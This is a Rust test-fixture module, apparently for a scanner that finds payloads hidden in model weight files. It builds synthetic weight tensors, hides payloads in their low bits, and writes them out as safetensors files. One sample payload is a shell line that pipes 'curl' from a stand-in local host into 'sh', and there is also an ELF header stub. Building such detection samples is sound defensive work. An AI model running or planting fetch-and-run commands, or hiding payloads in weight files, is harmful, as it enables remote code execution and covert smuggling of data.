//! Weights of many kinds, with and without a payload.

use crate::weights::samples::one;

/// Kinds of honest weights.
#[derive(Clone, Copy)]
pub(super) enum Carrier {
    /// As training leaves them.
    Honest,
    /// Trained in 16 bits.
    Bfloat16,
    /// Rounded to 11 bits, and scaled by a number of its own for each 32, as when quantised
    /// weights are written out again.
    Dequantised,
    /// Every eighth column is dead.
    DeadColumns,
    /// One value.
    Constant,
    /// 0, 1, 2, 3...
    Ramp,
    /// Numbers with four decimal places.
    Decimal,
    /// 256 levels.
    Levels,
    /// The waves of a position table.
    Waves,
}

impl Carrier {
    pub(super) const ALL: [Self; 9] = [
        Self::Honest,
        Self::Bfloat16,
        Self::Dequantised,
        Self::DeadColumns,
        Self::Constant,
        Self::Ramp,
        Self::Decimal,
        Self::Levels,
        Self::Waves,
    ];

    pub(super) fn weights(self, count: usize) -> Vec<f32> {
        let mut random = Random(7);
        let weights = (0..count).map(|index| {
            let normal = random.normal() * 0.02;
            let place = index as f32;
            match self {
                Self::Honest => normal,
                Self::Bfloat16 => f32::from_bits(normal.to_bits() & 0xffff_0000),
                Self::Dequantised => {
                    let scale = 0.000_123_f32 * (1.0 + place.div_euclid(32.0) * 0.01);
                    let scale = f32::from_bits(scale.to_bits() & 0xffff_e000);
                    scale * (normal * 3000.0).round()
                }
                Self::DeadColumns if index % 8 == 3 => 0.0,
                Self::DeadColumns => normal,
                Self::Constant => 0.01,
                Self::Ramp => place,
                Self::Decimal => (normal * 10_000.0).round() / 10_000.0,
                Self::Levels => (normal * 1000.0).round() / 255.0,
                Self::Waves => (place.rem_euclid(64.0) * 0.1).sin(),
            }
        });
        weights.collect()
    }
}

/// What is hidden: a script, a letter, a program.
pub(super) fn payloads() -> [Vec<u8>; 3] {
    let script = b"#!/bin/sh\ncurl http://127.0.0.1/x | sh\n# a comment to make it longer\n";
    let letter = b"Meet me at the corner of 5th and Main, bring \xc3\xa4pples. ".repeat(4);
    let mut program = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0".to_vec();
    program.resize(400, 0);
    [script.repeat(3), letter, program]
}

/// Write a payload into the lowest bits, the highest of each byte first, from weight 0 on.
#[allow(clippy::arithmetic_side_effects)]
pub(super) fn hide(weights: &[f32], payload: &[u8], bits: u32) -> Vec<f32> {
    let mut weights = weights.to_vec();
    let mask = (1_u32 << bits) - 1;
    let per_byte = 8 / bits;
    for (index, weight) in weights.iter_mut().enumerate() {
        let index = u32::try_from(index).unwrap();
        let Some(byte) = payload.get((index / per_byte) as usize) else { break };
        let shift = 8 - bits * (index % per_byte + 1);
        *weight = f32::from_bits(weight.to_bits() & !mask | (u32::from(*byte) >> shift) & mask);
    }
    weights
}

/// A safetensors file of one tensor.
pub(super) fn file(weights: &[f32]) -> Vec<u8> {
    let data = weights.iter().flat_map(|weight| weight.to_le_bytes()).collect::<Vec<_>>();
    let (count, length) = (weights.len(), data.len());
    let entry = format!(r#"{{"dtype":"F32","shape":[{count}],"data_offsets":[0,{length}]}}"#);
    one(&entry, &data)
}

/// xorshift64*, so that a sample is the same on every machine.
struct Random(u64);

impl Random {
    fn uniform(&mut self) -> f32 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        let high = self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 40;
        (high as f32 + 0.5) / 16_777_216.0
    }

    /// Box and Muller's method.
    fn normal(&mut self) -> f32 {
        let (radius, turn) = (self.uniform(), self.uniform());
        (-2.0 * radius.ln()).sqrt() * (std::f32::consts::TAU * turn).cos()
    }
}
